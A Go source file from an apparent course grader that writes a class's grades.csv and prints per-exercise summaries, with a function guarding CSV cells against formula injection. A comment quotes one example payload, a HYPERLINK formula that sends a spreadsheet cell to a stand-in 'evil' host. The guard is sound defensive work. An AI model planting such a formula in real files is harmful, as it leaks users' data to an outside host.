package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
	"sort"
	"strconv"
	"strings"

	"parlab/grader/exercise"
	"parlab/grader/verdict"
	"parlab/internal/textcut"
)

// Gradebook is a graded class as its files show it (grades.csv,
// report.html and the summary of `grade batch` and `grade merge`).
type Gradebook struct {
	// Exercises are the columns, in order.
	Exercises []exercise.Spec
	// Students are the rows, in order.
	Students []Student
	// Partial says why the book is not the whole class (a merge of
	// incomplete shards, a batch still grading); empty when it is.
	Partial string
	// Similarity is the class's code similarity, when it was compared
	// (report.html shows it; it changes no score).
	Similarity *Similarity
}

// Student is one row of a gradebook.
type Student struct {
	Name string
	// File is the student's record, which report.html links to.
	File string
	// Results holds the result of each exercise graded, by name.
	Results map[string]*verdict.Result
	// Total and Max are the row's score out of its maximum.
	Total, Max int
	// Note says what is wrong with the submission as a whole.
	Note string
	// Pending lists the exercises whose faster check the machine could
	// not judge yet (`grade batch --remeasure` finishes them).
	Pending []string
}

// RemeasureCommand finishes the pending checks of the gradebook in the
// folder OUT.
const RemeasureCommand = "grade batch --remeasure OUT"

// PartialMark begins the note of the row that grades.csv puts first, with
// an empty student, when the book is partial.
const PartialMark = "PARTIAL gradebook: "

// Percent is score out of max as a percentage with one decimal, as the
// gradebook writes it.
func Percent(score, max int) string {
	if max == 0 {
		return "0.0"
	}
	return strconv.FormatFloat(100*float64(score)/float64(max), 'f', 1, 64)
}

// GradesCSV is grades.csv: one row per student with a column per
// exercise's score, the total, the maximum, the percentage, the note,
// and then each exercise's maximum ("max histogram").
// Every cell goes through SpreadsheetCell: a student names their own
// folder, and the note quotes it.
// A partial book's first row has no student and says why in its note
// (PartialMark), so that no one takes it for the whole class.
func GradesCSV(b Gradebook) []byte {
	var buf bytes.Buffer
	w := cellWriter{csv.NewWriter(&buf)}
	header := []string{"student"}
	for _, s := range b.Exercises {
		header = append(header, s.Name)
	}
	header = append(header, "total", "max", "percent", "note")
	// Each exercise's maximum for this student, last so that the columns
	// before keep their places: a faster check still pending leaves its
	// points out of it.
	for _, s := range b.Exercises {
		header = append(header, "max "+s.Name)
	}
	w.Write(header)
	if b.Partial != "" {
		row := make([]string, len(b.Exercises)+4)
		row = append(row, PartialMark+b.Partial)
		w.Write(append(row, make([]string, len(b.Exercises))...))
	}
	for _, st := range b.Students {
		row := []string{st.Name}
		var maxima []string
		for _, s := range b.Exercises {
			score, max := 0, s.MaxScore()
			if res := st.Results[s.Name]; res != nil {
				score, max = res.Score, res.MaxScore
			}
			row = append(row, strconv.Itoa(score))
			maxima = append(maxima, strconv.Itoa(max))
		}
		row = append(row, strconv.Itoa(st.Total), strconv.Itoa(st.Max), Percent(st.Total, st.Max), st.Note)
		w.Write(append(row, maxima...))
	}
	w.Flush()
	return buf.Bytes()
}

// cellWriter writes CSV records whose every cell is a SpreadsheetCell.
type cellWriter struct{ *csv.Writer }

func (w cellWriter) Write(record []string) error {
	cells := make([]string, len(record))
	for i, c := range record {
		cells[i] = SpreadsheetCell(c)
	}
	return w.Writer.Write(cells)
}

// SpreadsheetCell is s as a CSV cell that a spreadsheet shows as the
// text it is, never runs as a formula, per OWASP's advice on CSV
// injection (https://owasp.org/www-community/attacks/CSV_Injection): a
// cell that starts with = + - @, a tab, a carriage return or a line feed
// gets a leading single quote (the NUL that ASVS 1.2.10 adds too). A
// student folder named =HYPERLINK("http://evil/?"&A1) is a live formula
// in grades.csv otherwise. The quoting of commas and double quotes is
// encoding/csv's (RFC 4180).
func SpreadsheetCell(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r\n\x00", rune(s[0])) {
		return "'" + s
	}
	return s
}

// Summary is the class at a glance, per exercise.
type Summary struct {
	Students int
	// Pending counts the students with a faster check not judged yet.
	Pending   int
	Exercises []ExerciseSummary
}

// ExerciseSummary is one exercise across the class.
type ExerciseSummary struct {
	Name     string
	MaxScore int
	// Graded counts the students with a result; Missing those without
	// (no folder for the exercise), who score 0 in grades.csv but are
	// left out of the mean and the median, which are over the graded.
	Graded, Missing    int
	MeanScore, Median  float64
	PassRate           map[verdict.CheckName]float64 // share of graded submissions passing the check
	Checks             []verdict.CheckName
	CommonFailures     []Failure // most frequent first failures
	SpeedupsVsRequired []Speedup // each student's measured speedup
}

// Failure is a first failure and how many submissions had it. Messages
// that differ only in their numbers (lines, seeds, sizes) count as one;
// Message is the first student's, numbers and all, as an example.
type Failure struct {
	Check   verdict.CheckName
	Message string
	Count   int
}

// Speedup is what one student's code reached against the bar.
type Speedup struct {
	Student           string
	Speedup, Required float64
}

// Summarize computes the summary of the gradebook.
func Summarize(b Gradebook) Summary {
	sum := Summary{Students: len(b.Students)}
	for _, st := range b.Students {
		if len(st.Pending) > 0 {
			sum.Pending++
		}
	}
	for _, s := range b.Exercises {
		sum.Exercises = append(sum.Exercises, summarizeExercise(s, b.Students))
	}
	return sum
}

// summarizeExercise is one exercise's column at a glance; the mean and
// median are over the students graded (a student without a result is
// counted as missing).
func summarizeExercise(s exercise.Spec, students []Student) ExerciseSummary {
	es := ExerciseSummary{Name: s.Name, MaxScore: s.MaxScore(), PassRate: map[verdict.CheckName]float64{}, Checks: s.Checks()}
	var scores []float64
	passes := map[verdict.CheckName]int{}
	failures := map[string]*Failure{}
	for _, st := range students {
		res := st.Results[s.Name]
		if res == nil {
			es.Missing++
			continue
		}
		scores = append(scores, float64(res.Score))
		es.Graded++
		for _, c := range res.Checks {
			if c.Status == verdict.Pass {
				passes[c.Name]++
			}
		}
		countFailure(failures, res)
		if res.Speedup != nil && res.Speedup.Speedup > 0 {
			es.SpeedupsVsRequired = append(es.SpeedupsVsRequired, Speedup{st.Name, res.Speedup.Speedup, res.Speedup.Required})
		}
	}
	es.MeanScore, es.Median = meanMedian(scores)
	for _, c := range es.Checks {
		if es.Graded > 0 {
			es.PassRate[c] = float64(passes[c]) / float64(es.Graded)
		}
	}
	es.CommonFailures = mostCommon(failures, 3)
	return es
}

var digits = regexp.MustCompile(`[0-9]+`)

// countFailure counts res's first failure. Numbers (lines, seeds, sizes)
// differ between students with the same mistake: it groups without them.
func countFailure(failures map[string]*Failure, res *verdict.Result) {
	f := res.FirstFailure()
	if f == nil {
		return
	}
	msg := headlineOf(f.Message)
	key := string(f.Name) + "\x00" + digits.ReplaceAllString(msg, "N")
	if failures[key] == nil {
		failures[key] = &Failure{Check: f.Name, Message: msg}
	}
	failures[key].Count++
}

// headlineOf is a message's first line, with the next one when the
// first only announces it ("compiles, but go vet reports:").
func headlineOf(msg string) string {
	first, rest, _ := strings.Cut(strings.TrimSpace(msg), "\n")
	if strings.HasSuffix(first, ":") && rest != "" {
		first += " " + strings.TrimSpace(textcut.FirstLine(rest))
	}
	return first
}

// mostCommon is the n most frequent failures, most frequent first.
func mostCommon(failures map[string]*Failure, n int) []Failure {
	var out []Failure
	for _, f := range failures {
		out = append(out, *f)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Message < out[j].Message
	})
	if len(out) > n {
		out = out[:n]
	}
	return out
}

func meanMedian(xs []float64) (mean, median float64) {
	if len(xs) == 0 {
		return 0, 0
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	total := 0.0
	for _, x := range s {
		total += x
	}
	mid := len(s) / 2
	median = s[mid]
	if len(s)%2 == 0 {
		median = (s[mid-1] + s[mid]) / 2
	}
	return total / float64(len(s)), median
}

// ClassSummary prints the gradebook's summary for a terminal: per
// exercise, the mean and median, the pass rate of each check and the most
// common first failures.
func ClassSummary(w io.Writer, b Gradebook) {
	sum := Summarize(b)
	fmt.Fprintf(w, "%d students\n", sum.Students)
	if b.Partial != "" {
		fmt.Fprintf(w, "%s%s\n", PartialMark, b.Partial)
	}
	if sum.Pending > 0 {
		fmt.Fprintf(w, "speed check pending for %d students (the machine was too busy to judge it): finish them with %s\n", sum.Pending, RemeasureCommand)
	}
	for _, e := range sum.Exercises {
		fmt.Fprintf(w, "\n%s: graded %d of %d", e.Name, e.Graded, e.Graded+e.Missing)
		if e.Missing > 0 {
			fmt.Fprintf(w, " (%d without this exercise: 0 in grades.csv)", e.Missing)
		}
		fmt.Fprintf(w, "; over the %d graded, mean %.1f/%d, median %.1f/%d\n", e.Graded, e.MeanScore, e.MaxScore, e.Median, e.MaxScore)
		var rates []string
		for _, c := range e.Checks {
			rates = append(rates, fmt.Sprintf("%s %.0f%%", c, 100*e.PassRate[c]))
		}
		fmt.Fprintf(w, "  pass rate: %s\n", strings.Join(rates, ", "))
		for _, f := range e.CommonFailures {
			fmt.Fprintf(w, "  %d× %s, e.g. %s\n", f.Count, f.Check, Quote(textcut.Truncate(f.Message, 140)))
		}
	}
}
